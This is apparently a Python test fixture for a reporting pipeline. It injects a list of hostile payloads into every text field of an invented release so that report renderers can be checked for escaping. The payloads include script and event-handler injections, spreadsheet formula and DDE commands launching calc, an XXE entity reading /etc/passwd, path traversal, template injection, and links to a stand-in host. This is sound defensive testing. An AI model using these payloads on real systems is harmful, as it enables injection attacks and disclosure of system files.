"""Texts that try to become code, put in every text field of the invented release.

Belongs here: the payloads, which fields are texts, and the frames that hold them. Does not belong
here: what the formats make of it (`test_hostile`).

No name of a municipality, source or sender looks like this past the gate of the deliveries; the
renderers are tried without that gate.
"""

import json
from pathlib import Path

import polars as pl

from models.tables import MARTS
from reports.release import RETRACTED
from tests.reports.invented_release import Frames

MARK = "hurt"
"""What a payload would set in the window, or call the element that it makes."""

OUTSIDE = "buiten.example"
"""Where a payload would send a reader or a request."""

LONG_WORD = "Donaudampfschiff" * 250

PAYLOADS: dict[str, str] = {
    "hyperlink": f'=HYPERLINK("https://{OUTSIDE}/?"&A1;"klik")',
    "script": f"<script>window.{MARK}=1;alert(1)</script>",
    "image": f'<img id="{MARK}" src="https://{OUTSIDE}/i.png" onerror="window.{MARK}=1">',
    "drawing": f'<svg id="{MARK}" onload="window.{MARK}=1"><circle r="9"/></svg>',
    "script link": f'<a id="{MARK}" href="javascript:window.{MARK}=1">klik</a>',
    "command": "+cmd|' /C calc'!A0",
    "link": f'<a href="https://{OUTSIDE}/l" target="_blank">klik</a>',
    "double quote": f'" onfocus="window.{MARK}=1" autofocus tabindex="1" onmouseover="alert(1)',
    "single quote": f"' onclick='window.{MARK}=1' style='position:fixed;inset:0",
    "style": f"</style><style>body{{background:url(https://{OUTSIDE}/s)}}</style>",
    "sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "end of script": f"</script><script>window.{MARK}=1</script><!--",
    "template": "{{7*7}} {% raw %} {{ self.__init__ }} %s {0}",
    "string template": f"${{7*7}} `${{window.{MARK}=1}}`",
    "typst": '#eval("6*7") #image("/etc/passwd") #read("/etc/passwd") #set page(height: 1pt)',
    "exchange": '=DDE("cmd";"/C calc";"x")',
    "formula in typst": f"$\\href(https://{OUTSIDE})$ *b* _i_ @ref <label> // c /* c */",
    "tab": "\t=1+1",
    "line ends": "\r=1+1\n=2+2",
    "path": "../../../../etc/cron.d/hurt\\..\\hurt",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "right to left": "\N{RIGHT-TO-LEFT OVERRIDE}dne eht\N{POP DIRECTIONAL FORMATTING} \u05d0\u05d1",
    "null": "voor\0na",
    "long word": LONG_WORD,
    "pictures": "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f1f3\U0001f1f1 e\u0301\u0323",
    "no width": "\u200b\ufeff=1+1\u2060",
    "wide": "\uff1d1+1 \xa0=1+1",
    "markdown": f"[klik](javascript:window.{MARK}=1) ![x](https://{OUTSIDE}/m.png)",
    "entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;&amp;&#x41;',
    "end of data": "]]><![CDATA[<x>]]>&lt;",
    "quotes": "\"'`\u00b4\u201e\u201c\u201d\u00bb\\\"'\\",
}
"""At least 25 texts, each after another way to become code."""

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
"""First characters that make a spreadsheet read a text as a formula (ASVS 1.2.10)."""

CODES = {
    "clock_start": "a code of the agreement, read by name",
    "commitment": "a code of the agreement, read by name",
    "factor": "a code of the split key",
    "ground": "a code of the lettings",
    "homes": "numbers that the product wrote",
    "key_id": "joins tables",
    "kind": "a code of the agreement, read by name",
    "law": "a code of the product",
    "method": "a code of the product",
    "models": "written by the product",
    "note": "a code of the product",
    "parameter": "a code of the product",
    "person_word": "a code of the region file",
    "priority_class": "joins tables",
    "reason": "a code of the product",
    "series_id": "a code of the product",
    "state": "a code of the agreement, read by name",
    "status": "a code of the plan, read by name",
    "structural_breaks": "written by the product",
    "unit": "a code of the product",
    "values": "written by the product",
    "verdict": "a code of the product",
    "weights": "written by the product",
}
"""Columns of text whose values are codes: joined on or found by name, never shown."""


EVERYWHERE = ("region_name", "scenario_label")
"""Fields that stand on every page and under every chart: without the long word, which the others
hold, so that the whole report stays small enough to make in seconds."""


def text_columns() -> dict[str, list[str]]:
    """Give the tables in which each text field stands, by its name."""
    found: dict[str, list[str]] = {}
    for table, schema in MARTS.items():
        for name, column in schema.columns().items():
            is_text = type(column).__name__ == "String" and getattr(column, "regex", None) is None
            if is_text and name not in CODES:
                found.setdefault(name, []).append(table)
    return found


def poison(frames: Frames) -> dict[str, list[str]]:
    """Put every payload in every text field, spread over the values that the field has.

    A value becomes the same text wherever it stands, so that tables still join.

    Returns:
        The texts by field.
    """
    texts: dict[str, list[str]] = {}
    for place, (name, tables) in enumerate(text_columns().items()):
        values = sorted({one for table in tables for one in frames[table][name].drop_nulls()})
        if not values:
            continue
        made = {
            value: hostile_text(rank, len(values), place, short=name in EVERYWHERE)
            for rank, value in enumerate(values)
        }
        for table in tables:
            old = frames[table][name]
            new = old.replace_strict(made, default=None, return_dtype=pl.String)
            frames[table] = frames[table].with_columns(new.alias(name))
        texts[name] = list(made.values())
    return texts


def hostile_text(rank: int, values: int, turn: int, *, short: bool) -> str:
    """Give the payloads that fall to one of so many values, another one first in each field."""
    listed = [text for text in PAYLOADS.values() if text != LONG_WORD or not short]
    turned = listed[turn % len(listed) :] + listed[: turn % len(listed)]
    mine = turned[rank::values] or [turned[rank % len(turned)] + str(rank)]
    starts = [text for text in mine if text.startswith(STARTS)]
    first = starts[turn % len(starts)] if starts else mine[0]
    return " ".join([first, *(text for text in mine if text is not first)])


def retract(release: Path, why: str) -> None:
    """Mark a release as one that used a source which was retracted, for such a reason."""
    mark = {"what": why, "sha256": "0" * 64, "by": why, "why": why}
    text = json.dumps({"retracted": [mark]})
    (release / RETRACTED).write_text(text, encoding="utf-8")
